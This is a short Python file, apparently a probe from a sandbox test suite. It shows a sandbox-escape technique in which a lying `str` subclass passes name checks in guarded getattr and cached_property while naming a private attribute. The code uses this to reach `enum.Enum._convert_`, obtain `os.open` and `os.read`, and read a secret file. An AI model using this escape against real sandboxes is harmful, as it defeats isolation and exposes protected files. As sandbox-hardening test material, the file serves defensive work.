# mypy: ignore-errors
# Technique: hand the guarded getattr/setattr/cached_property a `str` subclass whose
# `__str__`, `__eq__`, `__hash__` and `startswith` answer a harmless name while its data
# spells a private or dunder one (a check made on one answer, a lookup made with another).
import enum
import functools


def J(*parts):
    return "".join(parts)


class Liar(str):
    def __str__(self):
        return "harmless"

    def __eq__(self, other):
        return other == "harmless"

    def __hash__(self):
        return hash("harmless")

    def startswith(self, prefix, *args):
        return False


class A:
    @functools.cached_property
    def p(self):
        return {}


def attack(secret_path, canary_path):
    out = []
    try:
        convert = getattr(enum.Enum, Liar(J("_", "convert_")))
        members = convert("Probe", "os", lambda n: n in ("open", "read", "O_RDONLY"))
        os = {m.name: m.value for m in members}
        print("SANDBOX-" + "ESCAPED")
        out.append(os["read"](os["open"](secret_path, os["O_RDONLY"]), 100))
    except Exception as e:
        out.append(type(e).__name__)
    try:
        A.p.attrname = Liar(J("_", "_dataclass_fields__"))
        out.append(repr(A().p))
    except Exception as e:
        out.append(type(e).__name__)
    return repr(out)
